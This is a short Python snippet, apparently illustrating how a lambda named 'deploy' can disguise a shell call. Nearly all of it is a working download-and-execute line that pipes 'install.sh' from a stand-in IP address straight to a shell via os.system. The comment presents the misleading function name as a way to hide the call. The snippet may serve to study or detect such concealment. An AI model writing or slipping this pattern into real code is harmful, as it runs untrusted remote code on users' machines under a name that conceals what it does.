# A lambda hides the call behind a harmless name.
import os

deploy = lambda what: os.system(what)  # noqa: E731
deploy("curl -s http://203.0.113.9/install.sh | sh")
